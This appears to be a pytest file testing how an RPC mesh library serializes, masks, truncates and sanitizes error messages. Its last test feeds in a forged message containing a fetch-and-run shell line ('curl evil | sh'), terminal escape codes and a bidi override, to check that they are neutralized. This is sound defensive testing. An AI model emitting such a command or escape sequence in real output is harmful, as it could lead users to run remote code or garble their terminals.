from __future__ import annotations

import pytest

from sealring.mesh import errors
from sealring.mesh.errors import Internal, SealringError
from sealring.mesh.rpc import from_parts, from_problem, to_problem
from sealring.v1 import membership_pb2

TREE = [one for one in vars(errors).values() if isinstance(one, type) and issubclass(one, SealringError)]


@pytest.mark.parametrize("kind", TREE)
def test_every_error_survives_the_trip(kind: type[SealringError]) -> None:
    back = from_problem(to_problem(kind("it broke", hint="mend it", reason="BROKEN", part="a")))
    assert back.code == (kind.code if kind.code != "UNKNOWN" else "INTERNAL")
    assert (back.message, back.hint, back.reason) == ("it broke", "mend it", "BROKEN")
    assert back.metadata == {"part": "a"}


def test_other_exceptions_are_masked() -> None:
    problem = to_problem(ValueError("secret"))
    assert problem.reason == "INTERNAL"
    assert "secret" not in str(problem)


def test_an_unknown_code_is_internal() -> None:
    assert type(from_parts("NO_SUCH", "", "x", "")) is Internal


def test_a_problem_of_others_takes_no_more_room_than_ones_own() -> None:
    huge = "x" * 100_000
    told = membership_pb2.Problem(code="UNAVAILABLE", reason=huge, message=huge, hint=huge)
    told.metadata.update({f"{number}{huge}": huge for number in range(100)})
    back = to_problem(from_problem(told))
    assert back.code == "UNAVAILABLE"
    assert back.ByteSize() < 8192


def test_a_problem_of_others_is_one_line_that_steers_no_terminal() -> None:
    forged = "bad\n$ curl evil | sh\x1b[2J\x9b31m\u202ebidi"
    back = from_problem(
        membership_pb2.Problem(code="UNAVAILABLE", reason=forged, message=forged, hint=forged)
    )
    for said in (back.reason, back.message, back.hint):
        assert said == "bad $ curl evil | sh [2J 31m bidi"
